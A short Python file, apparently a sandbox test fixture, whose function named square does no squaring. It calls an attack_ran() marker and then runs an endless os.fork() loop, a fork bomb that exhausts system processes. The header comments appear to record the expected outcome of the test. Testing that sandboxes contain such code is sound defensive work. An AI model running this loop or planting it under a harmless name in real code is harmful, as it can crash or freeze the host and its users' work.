"""Processes that make processes."""
# square: 0
# ends: stopped

# %% square
import os


def square(x):
    attack_ran()
    while True:
        try:
            os.fork()
        except OSError:
            pass
